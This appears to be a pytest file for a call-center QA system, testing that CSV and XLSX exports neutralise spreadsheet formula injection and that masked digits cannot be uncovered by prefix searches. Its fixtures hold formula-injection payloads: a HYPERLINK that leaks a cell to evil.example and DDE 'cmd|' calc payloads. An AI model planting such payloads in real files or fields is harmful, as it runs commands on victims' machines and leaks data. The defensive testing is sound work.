"""Side doors: spreadsheet formulas in exports, searches that spell masked digits out, downloads that
skip the audit. Each test is an attack that once worked."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select
from streamlit.testing.v1 import AppTest

from store.api import SearchRefused, Viewer, export_calls_file, neutralise, search
from store.exports import FORMULA_STARTS
from store.schema import AuditEntry, Call, CallOutcome, Operator, Recording
from store.search import search_utterances
from store.search_query import Phone, parse
from store.speech import replace_transcript

# Caller IDs as a PBX takes them from the line (or a prankster sets them): each one runs in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click me")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "  =1+1",
    "\t=2+2",
    "\r=3+3",
]
CARD, PHONE, INN = "4276 3800 1234 5679", "+7 916 123-45-67", "7707083893"
SAID = [
    ("customer", f"Добрый день, мой ИНН {INN}, хочу оплатить картой."),
    ("operator", "Назовите номер карты, пожалуйста."),
    ("customer", f"Номер карты {CARD}, а телефон для связи {PHONE}."),
    ("operator", '=HYPERLINK("http://evil.example") спасибо, записал, обращение создано.'),
]
ANALYST = Viewer("ann", "analyst")
LEAD = Viewer("lea", "team_lead", team="A")
CONTROLLER = Viewer("qc", "quality_controller")


def add_formula_calls(engine) -> None:
    """A call per formula caller ID, the first with a transcript that says an INN, a card and a phone."""
    with engine.begin() as conn:
        conn.execute(insert(Operator).values(id=1, code="101", team="A"))
        for i, caller in enumerate(FORMULAS, start=1):
            conn.execute(insert(Call).values(id=i, uniqueid=f"{i}.7", operator_id=1, caller_number=caller,
                                             billsec=90, start_at=datetime(2026, 3, 2, 10, i)))  # fmt: skip
            conn.execute(insert(Recording).values(id=i, call_id=i, path="-", sha256=f"{i:064d}", size_bytes=0,
                                                  status="accepted"))  # fmt: skip
            conn.execute(insert(CallOutcome).values(
                call_id=i, counted=True, exclusion_reasons=[], linked=False, handle_seconds=90.0,
                compliance_score=75.0, purpose="=cmd|' /C calc'!A0",
            ))  # fmt: skip
        replace_transcript(conn, 1, "t", [
            {"role": role, "start": 3.0 * n, "end": 3.0 * n + 2.5, "text": text, "normalized_text": text}
            for n, (role, text) in enumerate(SAID)
        ])  # fmt: skip


@pytest.fixture
def formulas(engine):
    add_formula_calls(engine)
    return engine


def _prefixes(number: str) -> list[str]:
    digits = "".join(c for c in number if c.isdigit())
    return [digits[:n] for n in range(1, len(digits) + 1)]


PROBES = [
    *_prefixes(CARD),
    *_prefixes(PHONE),
    *_prefixes(INN),
    '"4276 38"',
    "ИНН7707",
    "+7916",
    "карта NOT 4276",
]


def _audited(conn, action: str) -> list[dict]:
    rows = conn.execute(
        select(AuditEntry.actor, AuditEntry.details)
        .where(AuditEntry.action == action)
        .order_by(AuditEntry.id)
    ).all()
    return [{"actor": actor, **(details or {})} for actor, details in rows]


def test_digit_prefix_searches_are_refused_for_masked_roles_and_audited(formulas):
    with formulas.begin() as conn:
        for viewer in (ANALYST, LEAD):
            for probe in PROBES:  # 42 tries that once told a masked card, phone and INN digit by digit
                with pytest.raises(SearchRefused, match="search by the words said around it"):
                    search(conn, viewer, probe)
        refused = _audited(conn, "search_refused")
        assert [(r["actor"], r["query"]) for r in refused] == [
            (v.username, p) for v in (ANALYST, LEAD) for p in PROBES
        ], "every refused search is on record, with its text"
        assert len(search(conn, ANALYST, "карта")) == 3 and search(conn, ANALYST, '"номер карты"')
        done = _audited(conn, "search")
        assert [(d["actor"], d["query"], d["hits"], d["role"]) for d in done] == [
            ("ann", "карта", 3, "analyst"), ("ann", '"номер карты"', 2, "analyst")
        ]  # fmt: skip


def test_no_prefix_of_personal_digits_is_in_the_index_any_role_searches(formulas):
    with formulas.begin() as conn:
        for probe in PROBES[:-1]:
            tree = parse(probe)
            if isinstance(tree, Phone):
                continue  # a whole phone number looks up caller numbers, not the index
            assert search_utterances(conn, tree) == [], probe
        # A role that reads numbers may search them: personal digits still find nothing, other words do.
        assert search(conn, CONTROLLER, "4276") == [] and search(conn, CONTROLLER, "770708") == []
        assert len(search(conn, CONTROLLER, "обращение")) == 1


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+7 916", "'+7 916"),
        ("-5", "'-5"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n\n@x", "'\n\n@x"),
        ("＝1+1", "'＝1+1"),
        ("[phone]", "[phone]"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-5, -5),
        (1.5, 1.5),
    ],
)
def test_formula_starts_are_neutralised(value, safe):
    assert neutralise(value) == safe


def _unsafe(cell) -> bool:
    return (
        isinstance(cell, str)
        and bool(cell)
        and (cell[0] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS)
    )


def _check_csv(data: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]
    assert [c for c in cells if _unsafe(c)] == []
    return cells


def _check_xlsx(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets), "a live formula in the workbook"
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells if c.data_type == "f" or _unsafe(c.value)] == []
    return [c.value for c in cells if isinstance(c.value, str)]


@pytest.mark.parametrize("role", ["analyst", "admin"])
def test_exported_files_hold_formula_caller_ids_as_text(formulas, role):
    who = Viewer("exporter", role)
    with formulas.begin() as conn:
        csv_cells = _check_csv(export_calls_file(conn, who, "csv").data)
        xlsx_cells = _check_xlsx(export_calls_file(conn, who, "xlsx").data)
        assert [e["format"] for e in _audited(conn, "export")] == ["csv", "xlsx"]
    for cells in (csv_cells, xlsx_cells):
        assert "'" + FORMULAS[0] in cells and "'@SUM(1,1)" in cells, "the caller ID is kept, as text"
        assert any(c.startswith("'=cmd") for c in cells), "every text cell: the purpose too"


def test_the_cli_export_writes_no_formula(formulas, tmp_path):
    from typer.testing import CliRunner

    from pipeline.cli import app

    url = formulas.url.render_as_string(hide_password=False)
    for name, check in (("calls.csv", _check_csv), ("calls.xlsx", _check_xlsx)):
        out = tmp_path / name
        result = CliRunner().invoke(
            app, ["--db", url, "export", "calls", "--out", str(out), "--role", "analyst"]
        )
        assert result.exit_code == 0, result.output
        assert f"exported {len(FORMULAS)} calls" in result.output
        cells = check(out.read_bytes())
        assert "'+1+cmd|' /C calc'!A0" in cells
    (tmp_path / "a-file").write_text("")
    nowhere = tmp_path / "a-file" / "calls.csv"
    result = CliRunner().invoke(app, ["--db", url, "export", "calls", "--out", str(nowhere)])
    assert result.exit_code == 1 and "cannot write" in result.output
    lead = CliRunner().invoke(app, ["--db", url, "export", "calls", "--out", str(out), "--role", "team_lead"])
    assert lead.exit_code == 2 and "give --team" in lead.output, "a lead's export without a team says why"
    with formulas.connect() as conn:
        files = [e["file"] for e in _audited(conn, "export")]
    assert files == [str(tmp_path / "calls.csv"), str(tmp_path / "calls.xlsx")], "no file, no export"
    new_folder = tmp_path / "exports" / "march" / "calls.csv"
    result = CliRunner().invoke(app, ["--db", url, "export", "calls", "--out", str(new_folder)])
    assert result.exit_code == 0 and new_folder.exists(), "the folder is made"


def _leg(uniqueid: str, src: str, clid: str, start: str) -> str:
    """One answered inbound Master.csv row (Asterisk cdr_csv), fields quoted as Asterisk writes them."""
    fields = ["", src, "8800", "from-trunk", clid, "SIP/trunk-00000001", "SIP/101-0000002b", "Dial", "",
              start, start, start, "60", "60", "ANSWERED", "DOCUMENTATION", uniqueid, ""]  # fmt: skip
    return ",".join('"' + f.replace('"', '""') + '"' for f in fields) + "\n"


def test_formula_caller_ids_from_master_csv_reach_no_export_as_formulas(engine, tmp_path):
    from pipeline.ingest_run import IngestRequest, ingest
    from pipeline.stages.outcomes import analyse
    from store.api import export_call_table, list_calls

    callers = ['=HYPERLINK("http://evil.example/","x")', "+1+cmd|' /C calc'!A0", "@SUM(1,1)"]
    cdr = "".join(_leg(f"{n}.1", caller, f'"{caller}" <{caller}>', f"2026-03-0{n} 09:00:00")
                  for n, caller in enumerate(callers, start=1))  # fmt: skip
    (tmp_path / "Master.csv").write_text(cdr, encoding="utf-8")
    ingest(engine, IngestRequest(cdr=tmp_path / "Master.csv"))
    analyse(engine)
    admin = Viewer("root", "admin")  # reads caller numbers as the PBX wrote them
    with engine.begin() as conn:
        stored = {r["caller_number"] for r in list_calls(conn, admin)}
        assert stored & set(callers), "the probe needs a formula caller ID stored as written"
        files = {fmt: export_calls_file(conn, admin, fmt).data for fmt in ("csv", "xlsx")}

        def shape(rows: list[dict]) -> list[dict]:
            return [{"caller": r["caller_number"], "uniqueid": r["uniqueid"]} for r in rows]

        table = export_call_table(conn, admin, "xlsx", ["caller", "uniqueid"], shape)
    cells = [*_check_csv(files["csv"]), *_check_xlsx(files["xlsx"]), *_check_xlsx(table.data)]
    assert {"'" + c for c in stored & set(callers)} <= set(cells)


# The dashboard: the Calls page's export buttons, in AppTest with Streamlit's own media file manager.


@pytest.fixture
def dashboard(formulas, tmp_path, monkeypatch):
    """The formula calls behind the dashboard; Streamlit's media file managers of each run, to probe."""
    import streamlit.testing.v1.app_test as app_test
    from streamlit.runtime.media_file_manager import MediaFileManager

    from qa_dashboard.common import engine
    from qa_dashboard.users import add_user

    users = tmp_path / "users.yaml"
    add_user("analyst", "analyst", "s3cret-pass", users)
    monkeypatch.setenv("CALLQA_DB", formulas.url.render_as_string(hide_password=False))
    monkeypatch.setenv("CALLQA_USERS", str(users))
    managers: list[MediaFileManager] = []

    class Recorded(MediaFileManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr(app_test, "MediaFileManager", Recorded)
    engine.clear()  # the engine of another test's database may be cached
    yield {"engine": formulas, "managers": managers}
    engine.clear()


def _calls_page() -> None:
    import qa_dashboard.pages_calls as calls

    calls.calls_page()


def test_the_calls_page_serves_no_export_before_it_is_pressed_and_audits_each_download(dashboard):
    from qa_dashboard.users import load_users

    app = AppTest.from_function(_calls_page, default_timeout=60)
    app.session_state["viewer"] = load_users()["analyst"].viewer()
    app.run()
    assert not app.exception
    manager = dashboard["managers"][-1]
    buttons = {b.proto.label: b.proto for b in app.get("download_button")}
    assert set(buttons) == {"Export CSV", "Export XLSX"}
    # Nothing to fetch by a media URL: no URL, no file made, no export on record.
    assert [b.url for b in buttons.values()] == ["", ""], "a download put up before anyone pressed Export"
    assert not manager._storage._files_by_id
    with dashboard["engine"].connect() as conn:
        assert _audited(conn, "export") == []
    # Pressing a button: the file is made at that moment, by the store call that audits it.
    files = {}
    for label, kind in (("Export CSV", "csv"), ("Export XLSX", "xlsx")):
        assert buttons[label].deferred_file_id
        url = manager.execute_deferred(buttons[label].deferred_file_id)
        files[kind] = manager._storage.get_file(url.rsplit("/", 1)[-1]).content
        with dashboard["engine"].connect() as conn:
            served = _audited(conn, "export")
        assert served[-1] == {"actor": "analyst", "rows": len(FORMULAS), "role": "analyst", "format": kind}
    assert "'" + FORMULAS[0] in _check_csv(files["csv"])
    assert "'@SUM(1,1)" in _check_xlsx(files["xlsx"])


def test_a_refused_search_on_the_search_page_says_why_and_stays_audited(dashboard):
    from qa_dashboard.users import load_users

    def search_page() -> None:
        import qa_dashboard.pages_insight as insight

        insight.search_page()

    app = AppTest.from_function(search_page, default_timeout=60)
    app.session_state["viewer"] = load_users()["analyst"].viewer()
    app.run()
    app.text_input[0].input("4276").run()
    assert app.error and "search by the words said around it" in app.error[0].value
    app.text_input[0].input("карта").run()
    assert not app.error
    with dashboard["engine"].connect() as conn:
        assert [e["query"] for e in _audited(conn, "search_refused")] == ["4276"]
        assert [(e["query"], e["hits"]) for e in _audited(conn, "search")] == [("карта", 3)]
